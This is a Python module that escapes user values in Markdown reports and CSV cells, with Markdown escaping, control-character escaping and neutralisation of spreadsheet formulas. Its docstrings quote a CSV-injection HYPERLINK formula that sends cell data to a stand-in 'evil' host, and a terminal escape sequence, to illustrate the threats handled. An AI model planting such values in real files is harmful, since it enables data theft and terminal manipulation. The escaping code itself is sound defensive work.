r"""Markdown that no user value can shape: the escaping filters and the environment.

Every Markdown text alflow writes (``report.md``, the same text as the flows' Prefect markdown artifacts and
``alflow report --format md``: one template, ``report.md.j2``, over :mod:`alflow.reports.content`) is rendered
in this environment. User-supplied values (model names, labels,
categories, error messages, URLs, paths) go through :func:`escape_md`:

- Markdown's special characters (``\ ` * _ { } [ ] < > ( ) # + - . ! | ~``) are backslash-escaped,
  so no value opens a link, an image, emphasis, a heading, a list or a table cell;
- HTML is inert: ``&``, ``<`` and ``>`` become entities (``<script>`` is text);
- newlines and runs of white space become one space (a value stays on its line, in its cell);
- control and format characters (:func:`escape_controls`: ESC, NUL, DEL, C1, bidi overrides, zero-width
  characters) are written as visible ``\xNN`` / ``\uNNNN`` text, so no value can drive a terminal that
  shows the file or reorder what a reader sees.

The environment escapes by default as well: any ``{{ value }}`` that is not already escaped
(:class:`markupsafe.Markup`) or a number is passed through :func:`escape_md`, so a template that
forgets the filter is still safe. User values are never put in code spans (backslash escapes do not
work there) and never become a link or image target.
"""

from __future__ import annotations

import re
import unicodedata
from typing import Final

import jinja2
from markupsafe import Markup

MD_SPECIAL: Final = frozenset("\\`*_{}[]<>()#+-.!|~")
"""Characters backslash-escaped in user text (``<`` and ``>`` become entities instead)."""
_ENTITIES: Final = {"&": "&amp;", "<": "&lt;", ">": "&gt;"}
_PLAIN_NUMBER: Final = re.compile(r"[0-9 .,:%/+\-]*")
"""A cell made only of digits and number punctuation (``2.5000``, ``-``, ``12 / 3``): literal in a cell."""


CONTROL_CATEGORIES: Final = frozenset({"Cc", "Cf", "Cs", "Zl", "Zp"})
"""Unicode categories :func:`escape_controls` writes as escapes: controls (C0, DEL, C1), format characters
(bidi embeddings, overrides and isolates U+202A-E, U+2066-9, marks U+200E/F, zero-width characters), lone
surrogates, and the line and paragraph separators U+2028/9."""
_NOT_PRINTABLE_ASCII: Final = re.compile(r"[^\x20-\x7e]")
_KEEP_WHITESPACE: Final = "\n\t"


def _escaped(char: str) -> str:
    code = ord(char)
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}" if code < 0x10000 else f"\\U{code:08x}"


def escape_controls(value: object, keep: str = _KEEP_WHITESPACE) -> str:
    r"""``value`` as text with every control or format character written as visible ``\xNN``, ``\uNNNN`` text.

    Escaped: every character of :data:`CONTROL_CATEGORIES` (ESC ``\x1b``, NUL ``\x00``, CR ``\r``, BEL, DEL
    ``\x7f``, C1 ``\x9b``, RLO ``\u202e``, ...) except those in ``keep`` (by default newline and tab, which a
    terminal, an HTML page or a Markdown renderer only lays out). Everything else, non-ASCII letters included,
    is left as it is. The one escaping function of alflow's reports and CLI tables: a model name such as
    ``"\x1b]0;pwned\x07"`` can neither retitle nor clear a terminal that shows it.
    """
    text = str(value)

    def swap(match: re.Match[str]) -> str:
        char = match.group()
        if char in keep or unicodedata.category(char) not in CONTROL_CATEGORIES:
            return char
        return _escaped(char)

    return _NOT_PRINTABLE_ASCII.sub(swap, text)


def _one_line(value: object) -> str:
    """``value`` with controls escaped (CR, LF and tab kept) and each run of white space one space."""
    return " ".join(escape_controls(value, keep="\t\n\r").split())


def escape_md(value: object) -> Markup:
    """``value`` as inert Markdown text: specials escaped, HTML entities, one line (see the module doc)."""
    text = _one_line(value)
    out = [_ENTITIES.get(c) or (f"\\{c}" if c in MD_SPECIAL else c) for c in text]
    return Markup("".join(out))  # noqa: S704 (escaped above)


def md_cell(value: object) -> Markup:
    """A table cell: :func:`escape_md` (pipes included), a formatted number as it is, never empty."""
    text = _one_line(value)
    if not text:
        return Markup(" ")
    if _PLAIN_NUMBER.fullmatch(text):
        return Markup(text)  # noqa: S704 (digits and number punctuation only)
    return escape_md(text)


def _finalize(value: object) -> object:
    """Escape every expression's value unless it is escaped already (Markup) or a number."""
    if isinstance(value, Markup):
        return value
    if isinstance(value, int | float) and not isinstance(value, bool):
        return value
    return escape_md("" if value is None else value)


def markdown_environment() -> jinja2.Environment:
    """The jinja2 environment of Markdown templates: escapes by default, strict undefined, ``md`` and ``cell``."""
    env = jinja2.Environment(
        loader=jinja2.PackageLoader("alflow.reports", "templates"),
        autoescape=False,  # noqa: S701 (Markdown: _finalize and the filters escape; HTML escaping would not)
        finalize=_finalize,
        undefined=jinja2.StrictUndefined,
        trim_blocks=True,
        lstrip_blocks=True,
        keep_trailing_newline=True,
    )
    env.filters["md"] = escape_md
    env.filters["cell"] = md_cell
    return env


MARKDOWN_ENV: Final = markdown_environment()


def spreadsheet_safe(text: str) -> str:
    """A CSV cell's text a spreadsheet shows as text: one starting with ``= + - @``, a tab or a CR gets a ``'``.

    A stored model id such as ``=HYPERLINK("http://evil/?"&A1,"x")`` was a live formula in Excel and Sheets
    (CWE-1236, OWASP's CSV injection); numbers are written as numbers, never through this.
    """
    return f"'{text}" if text[:1] in _FORMULA_STARTS and text[:1] else text


_FORMULA_STARTS: Final = frozenset("=+-@\t\r")
